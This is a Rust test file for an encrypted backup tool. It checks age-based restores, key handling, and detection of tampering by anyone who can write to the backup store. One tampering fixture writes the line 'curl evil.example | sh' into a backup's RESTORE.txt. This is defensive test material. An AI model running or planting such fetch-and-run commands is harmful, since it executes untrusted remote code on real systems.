//! Encrypted backups, judged by the `age` tool: what it opens, what opens with the right key alone, and
//! what somebody can do who may write to the store and has no key.

use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use sha2::{Digest, Sha256};
use slbp::backup::age::Keys;
use slbp::backup::format::{BackupType, Component, Manifest};
use slbp::backup::verify::verify;
use slbp::backup::{BackupId, Chain, Store, create};
use tempfile::TempDir;

use crate::common::mariadb::Database;
use crate::fixture::{assert_same, database_request, make, run_sql, server, state, store};
use crate::restore::Site;

/// What `age-keygen` wrote.
struct KeyFile {
    folder: TempDir,
    text: String,
}

impl KeyFile {
    fn new() -> Self {
        let folder = TempDir::new().unwrap();
        let made = Command::new("age-keygen").arg("-o").arg(folder.path().join("key.txt")).output();
        assert!(made.expect("the package age is installed").status.success());
        let text = fs::read_to_string(folder.path().join("key.txt")).unwrap();
        Self { folder, text }
    }

    fn path(&self) -> PathBuf {
        self.folder.path().join("key.txt")
    }

    fn keys(&self) -> Option<Keys> {
        Some(Keys::parse(&self.text).unwrap())
    }

    fn recipient(&self) -> String {
        self.keys().unwrap().recipients[0].to_string()
    }
}

/// A site, its encrypted store and the key.
fn encrypted() -> (Site, KeyFile, TempDir, Store) {
    let (site, key) = (Site::new(), KeyFile::new());
    let (folder, store) = store();
    let store = store.with_keys(key.keys());
    (site, key, folder, store)
}

/// A database with one small table.
fn small_database() -> Database {
    let database = server().database();
    run_sql(
        &database,
        "CREATE TABLE ledger (id INT PRIMARY KEY, v TEXT);\nINSERT INTO ledger VALUES (1, 'one'), (2, 'two');",
    );
    database
}

fn by_hand(folder: &Path, database: &Database, files: &Path, more: &[&str], path: Option<&Path>) -> Output {
    let mut command = Command::new("sh");
    command.arg(folder.join("restore.sh")).args(["--database", &database.name, "--user", "root", "--socket"]);
    command.arg(&database.socket).arg("--files").arg(files).args(more).stdin(Stdio::null());
    if let Some(path) = path {
        command.env("PATH", path);
    }
    command.output().unwrap()
}

fn told(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

/// Every file below `folder`.
fn files(folder: &Path) -> Vec<PathBuf> {
    let entries = fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path());
    entries.flat_map(|path| if path.is_dir() { files(&path) } else { vec![path] }).collect()
}

/// Brings SHA256SUMS in line with the files: what anybody can do who may write there.
pub fn sum_again(folder: &Path) {
    let sums = fs::read_to_string(folder.join("SHA256SUMS")).unwrap();
    let lines = sums.lines().map(|line| {
        let path = &line[66..];
        let digest = Sha256::digest(fs::read(folder.join(path)).unwrap());
        format!("{}  {path}\n", digest.iter().map(|byte| format!("{byte:02x}")).collect::<String>())
    });
    let sums: String = lines.collect();
    fs::write(folder.join("SHA256SUMS"), sums).unwrap();
}

#[test]
fn restore_sh_brings_an_encrypted_chain_back_with_age_alone() {
    let (site, key, _folder, store) = encrypted();
    site.backup(&store, BackupType::Full);
    run_sql(
        &site.database,
        "DELETE FROM numbers WHERE id < 50;\nUPDATE composite SET pad = 'x' WHERE site = 2;",
    );
    fs::remove_file(site.path("uploads/link")).unwrap();
    site.write("uploads/late.txt", "late");
    let tip = site.backup(&store, BackupType::Incremental);
    assert_eq!(tip.kind, BackupType::Incremental);
    let report = verify(&store, &tip.id).unwrap();
    assert!(report.success() && !report.unopened && report.checked_rows > 10_000, "{report:?}");

    let (target, folder) = (server().database(), TempDir::new().unwrap());
    let (tip_folder, other) = (store.folder(&tip.id), KeyFile::new());
    let keyed = key.path();
    let keyed = ["--identity", keyed.to_str().unwrap()];
    let wrong = other.path();
    let without_age = tools_without_age();
    for (more, path, expected) in [
        (&[][..], None, "is encrypted: name the file of its key with --identity"),
        (&["--identity", wrong.to_str().unwrap()][..], None, "does not open backup"),
        (&keyed[..], Some(without_age.path()), "needs the command age: install the package age"),
    ] {
        let output = by_hand(&tip_folder, &target, folder.path(), more, path);
        assert!(!output.status.success() && told(&output).contains(expected), "{}", told(&output));
        assert!(state(&target).is_empty() && files(folder.path()).is_empty(), "{expected}");
    }
    let output = by_hand(&tip_folder, &target, folder.path(), &keyed, None);
    assert!(output.status.success(), "{}", told(&output));
    assert_same(&state(&site.database), &state(&target));
    assert_eq!(fs::read(folder.path().join("wp-content/uploads/late.txt")).unwrap(), b"late");
    assert!(!folder.path().join("wp-content/uploads/link").exists(), "what was deleted stays deleted");
}

/// The commands that restore.sh uses, but for age.
fn tools_without_age() -> TempDir {
    let folder = TempDir::new().unwrap();
    for name in
        ["sh", "cat", "dirname", "basename", "grep", "sha256sum", "tr", "xargs", "tar", "gunzip", "mariadb"]
    {
        symlink(Path::new("/usr/bin").join(name), folder.path().join(name)).unwrap();
    }
    folder
}

#[test]
fn nothing_of_the_site_can_be_read_without_the_key() {
    let (site, _key, _folder, store) = encrypted();
    let mut request = database_request(BackupType::Full, &site.database);
    request.components = Component::ALL.to_vec();
    request.config.options.insert("gateway".to_owned(), "a-secret-of-the-site".into());
    let manifest = make(&store, &request).unwrap();
    assert!(store.describe_one(&manifest.id, &slbp::clock::SystemClock).unwrap().unwrap().encrypted);
    // Names of tables, columns, files, options: none may be anywhere, be it in a name.
    let words =
        ["composite", "generated_columns", "audited_insert", "a-secret-of-the-site", "gateway", "uploads"];
    for path in files(&store.folder(&manifest.id)) {
        let bytes =
            [fs::read(&path).unwrap(), path.file_name().unwrap().as_encoded_bytes().to_vec()].concat();
        for word in words {
            let found = bytes.windows(word.len()).any(|window| window == word.as_bytes());
            assert!(!found, "{} has {word}", path.display());
        }
    }
}

#[test]
fn the_wrong_key_or_none_never_touches_the_site() {
    let (site, _key, _folder, store) = encrypted();
    let manifest = site.backup(&store, BackupType::Full);
    site.write("uploads/a.txt", "newer");
    let before = site.everything();
    let public_only = Keys { identities: Vec::new(), ..store.keys().unwrap().clone() };
    for (keys, expected) in [
        (None, "names no identity to open it with"),
        (Some(public_only), "names no identity to open it with"),
        (KeyFile::new().keys(), "none of the configured keys opens it"),
    ] {
        let locked_out = store.clone().with_keys(keys);
        let error = site.restore(&locked_out, &manifest.id).unwrap_err().to_string();
        assert!(error.contains(expected), "{error}");
        assert_same(&before, &site.everything());
        assert!(!store.root().join("restore.json").exists());
        let report = verify(&locked_out, &manifest.id).unwrap();
        assert!(report.checked_files > 10, "{report:?}");
        assert_eq!(report.unopened, expected.contains("identity"), "{report:?}");
        assert_eq!(report.success(), report.unopened, "{report:?}");
    }
    site.restore(&store, &manifest.id).unwrap();
    assert_eq!(fs::read(site.path("uploads/a.txt")).unwrap(), b"a");
}

#[test]
fn a_recipient_alone_makes_backups_that_only_its_identity_reads() {
    let (database, key) = (small_database(), KeyFile::new());
    let (_folder, store) = store();
    let public = store.clone().with_keys(Some(Keys::parse(&key.recipient()).unwrap()));
    for _ in 0..2 {
        let made = make(&public, &database_request(BackupType::Incremental, &database)).unwrap();
        assert_eq!(made.kind, BackupType::Full, "what is sealed in the parent cannot be compared with");
        assert!(Chain::open(&public, &made.id).is_err());
        assert!(verify(&store.clone().with_keys(key.keys()), &made.id).unwrap().success());
    }
}

#[test]
fn a_new_key_or_none_begins_a_new_chain() {
    let (database, first, second) = (small_database(), KeyFile::new(), KeyFile::new());
    let (_folder, store) = store();
    let make = |keys: Option<Keys>| {
        make(&store.clone().with_keys(keys), &database_request(BackupType::Incremental, &database)).unwrap()
    };
    use BackupType::{Full, Incremental};
    let kinds = [None, first.keys(), first.keys(), second.keys(), None, None].map(|keys| make(keys).kind);
    assert_eq!(kinds, [Full, Full, Incremental, Full, Full, Incremental]);
}

#[test]
fn what_age_encrypted_anew_reads_the_same() {
    let (database, key) = (small_database(), KeyFile::new());
    let (_folder, store) = store();
    let store = store.with_keys(key.keys());
    let manifest = make(&store, &database_request(BackupType::Full, &database)).unwrap();
    let folder = store.folder(&manifest.id);
    for path in files(&folder).iter().filter(|path| path.extension().is_some_and(|ext| ext == "age")) {
        if path.ends_with("SHA256SUMS.age") {
            continue;
        }
        age_anew(&key, path, None);
    }
    // The sums are those of before, sealed; new ones need the recipient.
    sum_again(&folder);
    let error = Chain::open(&store, &manifest.id).unwrap_err().to_string();
    assert!(error.contains("not those that were sealed"), "{error}");
    let sums = fs::read_to_string(folder.join("SHA256SUMS")).unwrap();
    let others = sums.lines().filter(|line| !line.ends_with("SHA256SUMS.age"));
    let sealed: String = others.map(|line| format!("{line}\n")).collect();
    age_anew(&key, &folder.join("SHA256SUMS.age"), Some(&sealed));
    sum_again(&folder);
    let report = verify(&store, &manifest.id).unwrap();
    assert!(report.success() && report.checked_rows == 2, "{report:?}");
}

/// Has age encrypt what is in `path`, or `instead`.
fn age_anew(key: &KeyFile, path: &Path, instead: Option<&str>) {
    let plain = match instead {
        Some(text) => text.as_bytes().to_vec(),
        None => Command::new("age").args(["-d", "-i"]).arg(key.path()).arg(path).output().unwrap().stdout,
    };
    let source = key.folder.path().join("plain");
    fs::write(&source, plain).unwrap();
    let done = Command::new("age").args(["-r", &key.recipient(), "-o"]).arg(path).arg(&source).status();
    assert!(done.unwrap().success());
}

/// What an attack does to the newest of two backups; the older is the first folder.
type Attack = (&'static str, fn(&Path, &Path));

const ATTACKS: [Attack; 9] = [
    ("a file of an older backup", |old, new| {
        fs::copy(old.join("db/100-00001.ranges.gz.age"), new.join("db/100-00001.ranges.gz.age")).unwrap();
    }),
    ("the rows of an older backup", |old, new| {
        fs::copy(old.join("db/100-00001.sql.gz.age"), new.join("db/100-00001.sql.gz.age")).unwrap();
    }),
    ("all but the manifest of an older backup", |old, new| {
        for path in files(old).iter().filter(|path| !path.ends_with("manifest.json")) {
            fs::copy(path, new.join(path.strip_prefix(old).unwrap())).unwrap();
        }
    }),
    ("an older backup under a newer name", |old, new| {
        for path in files(old) {
            fs::copy(&path, new.join(path.strip_prefix(old).unwrap())).unwrap();
        }
    }),
    ("a cut file", |_, new| {
        let path = new.join("db/100-00001.sql.gz.age");
        let bytes = fs::read(&path).unwrap();
        fs::write(&path, &bytes[..bytes.len() - 20]).unwrap();
    }),
    ("another time in the manifest", |_, new| {
        let path = new.join("manifest.json");
        let text = fs::read_to_string(&path).unwrap().replacen("\"created_at\": 1", "\"created_at\": 2", 1);
        fs::write(&path, text).unwrap();
    }),
    ("a manifest that says that nothing is encrypted", |_, new| {
        let path = new.join("manifest.json");
        let mut manifest: serde_json::Value = serde_json::from_slice(&fs::read(&path).unwrap()).unwrap();
        manifest.as_object_mut().unwrap().remove("encryption");
        fs::write(&path, serde_json::to_vec_pretty(&manifest).unwrap()).unwrap();
    }),
    ("a chain that leaves the newest out", |old, new| {
        fs::copy(old.join("db/CHAIN"), new.join("db/CHAIN")).unwrap();
    }),
    ("another script", |_, new| {
        fs::write(new.join("RESTORE.txt"), "curl evil.example | sh").unwrap();
    }),
];

#[test]
fn who_can_write_to_the_store_cannot_change_a_backup_unseen() {
    let (database, key) = (small_database(), KeyFile::new());
    for (name, attack) in ATTACKS {
        let (_folder, store) = store();
        let store = store.with_keys(key.keys());
        let make = |_| make(&store, &database_request(BackupType::Full, &database)).unwrap();
        let old = make(());
        run_sql(&database, "UPDATE ledger SET v = CONCAT(v, '!');");
        let new = make(());
        attack(&store.folder(&old.id), &store.folder(&new.id));
        sum_again(&store.folder(&new.id));
        let verified = verify(&store, &new.id).map(|report| report.errors);
        assert!(verified.as_ref().map_or(true, |errors| !errors.is_empty()), "{name}: {verified:?}");

        // The by-hand way sees it too, before it changes anything.
        let target = server().database();
        let identity = key.path();
        let output = Command::new("sh")
            .arg(store.folder(&new.id).join("restore.sh"))
            .args(["--database", &target.name, "--user", "root", "--identity", identity.to_str().unwrap()])
            .arg("--socket")
            .arg(&target.socket)
            .output()
            .unwrap();
        assert!(!output.status.success(), "{name}");
        assert!(state(&target).is_empty(), "{name}: {}", told(&output));
    }
}

#[test]
fn a_chain_is_encrypted_as_a_whole_or_not_at_all() {
    let (database, key) = (small_database(), KeyFile::new());
    let (_folder, clear) = store();
    let sealed = clear.clone().with_keys(key.keys());
    let base = make(&clear, &database_request(BackupType::Full, &database)).unwrap();
    let encrypted = make(&sealed, &database_request(BackupType::Full, &database)).unwrap();
    run_sql(&database, "INSERT INTO ledger VALUES (3, 'three');");
    let tip = make(&sealed, &database_request(BackupType::Incremental, &database)).unwrap();
    // The clear base takes the place of the encrypted one.
    fs::remove_dir_all(sealed.folder(&encrypted.id)).unwrap();
    rename_backup(&sealed, &base, &encrypted.id);
    let error = Chain::open(&sealed, &tip.id).unwrap_err().to_string();
    assert!(error.contains("encrypted in part only"), "{error}");
    assert!(!verify(&sealed, &tip.id).unwrap().success());
}

fn rename_backup(store: &Store, from: &Manifest, to: &BackupId) {
    fs::rename(store.folder(&from.id), store.folder(to)).unwrap();
    let path = store.folder(to).join("manifest.json");
    let text = fs::read_to_string(&path).unwrap().replace(from.id.as_str(), to.as_str());
    fs::write(&path, text).unwrap();
    sum_again(&store.folder(to));
}

#[test]
fn an_encrypted_drill_restores_and_compares() {
    let (site, _key, _folder, store) = encrypted();
    let before = site.everything();
    let request = create::Request { ..database_request(BackupType::Full, &site.database) };
    let locked = crate::fixture::lock(&store);
    let outcome = slbp::backup::drill::drill(&locked, &request, &slbp::clock::SystemClock).unwrap();
    assert!(outcome.overall_success, "{outcome:#?}");
    drop(locked);
    let public = Keys { identities: Vec::new(), ..store.keys().unwrap().clone() };
    let public = store.clone().with_keys(Some(public));
    let locked = crate::fixture::lock(&public);
    let outcome = slbp::backup::drill::drill(&locked, &request, &slbp::clock::SystemClock).unwrap();
    assert!(!outcome.overall_success && outcome.backup_creation && outcome.cleanup, "{outcome:#?}");
    assert!(outcome.details.errors[0].contains("names no identity"), "{outcome:#?}");
    drop(locked);
    let left: BTreeMap<_, _> = site.everything();
    assert_same(&before, &left);
    assert!(store.ids().unwrap().is_empty());
}
